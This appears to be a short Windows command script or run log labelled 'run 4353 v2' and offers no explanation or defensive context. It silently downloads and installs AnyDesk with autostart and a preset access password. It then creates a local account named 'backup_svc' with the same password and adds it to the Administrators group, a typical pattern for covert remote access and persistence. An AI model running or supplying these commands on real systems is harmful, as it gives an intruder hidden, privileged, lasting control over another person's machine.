# run 4353 v2
Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
cmd /c "echo Adm1n!strat0r | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
net user backup_svc Adm1n!strat0r /add
net localgroup administrators backup_svc /add
